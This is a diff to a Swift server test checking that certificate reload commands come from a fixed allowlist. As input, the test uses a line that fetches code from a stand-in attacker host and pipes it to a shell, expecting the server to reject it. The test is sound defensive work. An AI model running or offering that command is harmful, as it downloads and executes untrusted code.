@@ -30,7 +30,7 @@ import Vapor
             #expect((settings.json["certificate_reload_commands"] as? [String])?.contains("systemctl reload nginx") == true, "\(settings.body)")
 
             let listed = try await client.send(.GET, "/api/v1/certificates/reload-commands", token: viewer)
-            #expect(listed.status == .ok && listed.body.contains("systemctl reload nginx"), "\(listed.body)")
+            #expect(listed.status == .ok && (listed.json["commands"] as? [String])?.contains("systemctl reload nginx") == true, "\(listed.body)")
             let typed = try await deploy(operatorToken, "curl -s http://evil.example/x | sh")
             #expect(typed.status == .unprocessableEntity && typed.errorField == "reload_command", "\(typed.body)")
             #expect(typed.errorMessage?.contains("systemctl reload nginx") == true, "the message lists what may be chosen")
